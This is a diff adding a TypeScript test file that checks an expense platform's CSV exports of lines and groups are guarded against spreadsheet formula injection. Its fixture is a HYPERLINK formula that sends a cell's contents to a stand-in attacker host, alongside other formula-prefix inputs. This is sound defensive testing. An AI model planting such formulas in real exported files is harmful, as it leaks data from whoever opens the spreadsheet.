@@ -1,0 +1,102 @@
+/** Every column of the files, for a platform whose every text is a formula. */
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { createTestDatabase, type TestDatabase } from '../db/test-database.ts'
+import { DEFAULT_GROUP_QUERY } from '../ledger/group-query.ts'
+import { DEFAULT_LINE_QUERY } from '../ledger/line-query.ts'
+import { makeLine, seedConnection, seedLines, seedOrganization } from '../ledger/seed.ts'
+import { LINE } from '../partner/test-records.ts'
+import { parseLine } from '../partner/wire-line.ts'
+import { GROUP_KEYS } from '../reconcile/group-keys.ts'
+import type { ColumnKind } from './csv.ts'
+import { toGroupColumns } from './group-columns.ts'
+import { LINE_COLUMNS } from './line-columns.ts'
+import { streamGroupsCsv, streamLinesCsv } from './stream-csv.ts'
+import { parseCsvRecords, readAll } from './test-parse-csv.ts'
+
+const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
+/** What stands in the columns that are not guarded. A column of words of our own has its words here. */
+const AMOUNT = /^-?\d+(\.\d+)?$/
+const UNGUARDED: Record<Exclude<ColumnKind, 'text' | 'code'>, RegExp> = {
+  amount: AMOUNT,
+  count: /^\d+$/,
+  day: /^\d{4}-\d{2}-\d{2}$/,
+}
+const WORDS: Record<string, RegExp> = {
+  currency: /^[A-Z]{3}$/,
+  out_of_policy: /^(true|false)$/,
+  include_breakfast: /^(true|false)$/,
+  finding_codes: /^(total|tax)( (total|tax))*$/,
+  note_codes:
+    /^(credit_sign|no_id|no_cost_center|unreadable_field)( (credit_sign|no_id|no_cost_center|unreadable_field))*$/,
+  connection_id: /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/,
+}
+
+let database: TestDatabase
+let organizationId: string
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  const owner = await seedOrganization(database.query)
+  organizationId = owner.organizationId
+  const connectionId = await seedConnection(database.query, owner, FORMULA)
+  await seedLines(organizationId, connectionId, [
+    // remarks, so that their column is filled, too
+    { ...makeLine(readHostileLine()), notes: ['credit_sign', 'unreadable_field'] },
+  ])
+})
+afterAll(() => database.drop())
+
+/** A line as the platform sends it, in which every text is the formula, for which the parser stands. */
+function readHostileLine() {
+  const wire = replaceTexts(LINE)
+  // what has to be an amount, a day or a currency is none then: such a line is not taken at all
+  expect(parseLine(JSON.stringify(wire)).ok).toBe(false)
+  const { unit_price, non_taxable_unit_price, tax_percentage, tax_amount, total_amount, expense_date } = LINE
+  const amounts = { unit_price, non_taxable_unit_price, tax_percentage, tax_amount, total_amount, expense_date }
+  for (const currency of [FORMULA, '=A1', '+AB', '@AB', '-1+', '\tAB', 'EUR\t'])
+    expect(parseLine(JSON.stringify({ ...wire, ...amounts, currency })), currency).toMatchObject({
+      ok: false,
+      path: 'currency',
+    })
+  const { issuing_date, due_date } = LINE
+  const metadata = {
+    ...(wire.metadata as object),
+    ...{ start_date: LINE.metadata.start_date, end_date: LINE.metadata.end_date },
+    ...{ out_of_policy: true, include_breakfast: true },
+  }
+  const days = { issuing_date, due_date, metadata }
+  const read = parseLine(JSON.stringify({ ...wire, ...amounts, ...days, currency: 'EUR', total_amount: '1.00' })) // a finding
+  if (!read.ok) throw new Error(read.reason)
+  return read.line
+}
+
+function replaceTexts(value: object): Record<string, unknown> {
+  const replace = (each: unknown): unknown => {
+    if (typeof each === 'string') return FORMULA
+    if (Array.isArray(each)) return each.map(replace)
+    return typeof each === 'object' && each !== null ? replaceTexts(each) : each
+  }
+  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replace(each)]))
+}
+
+function expectHarmless(columns: readonly { name: string; kind: ColumnKind }[], row: Record<string, string>): void {
+  for (const { name, kind } of columns) {
+    // no column is left out: an empty cell would prove nothing
+    if (kind === 'text') expect([name, row[name]]).toEqual([name, expect.stringMatching(/^'=HYPERLINK/)])
+    else if (kind === 'code') expect([name, row[name]]).toEqual([name, expect.stringMatching(WORDS[name] ?? /$^/)])
+    else expect([name, row[name]]).toEqual([name, expect.stringMatching(UNGUARDED[kind])])
+  }
+}
+
+test('A13: of a line in which every text is a formula, each column of the file is guarded or of our own words', async () => {
+  const rows = parseCsvRecords(await readAll(await streamLinesCsv(organizationId, DEFAULT_LINE_QUERY)))
+  expect(rows).toHaveLength(1)
+  expectHarmless(LINE_COLUMNS, rows[0] as Record<string, string>)
+})
+
+test('A13: so it is in the file of groups, by every key', async () => {
+  const query = { ...DEFAULT_GROUP_QUERY, by: [...GROUP_KEYS] }
+  const rows = parseCsvRecords(await readAll(await streamGroupsCsv(organizationId, query)))
+  expect(rows).toHaveLength(1)
+  expectHarmless(toGroupColumns(query.by), rows[0] as Record<string, string>)
+})
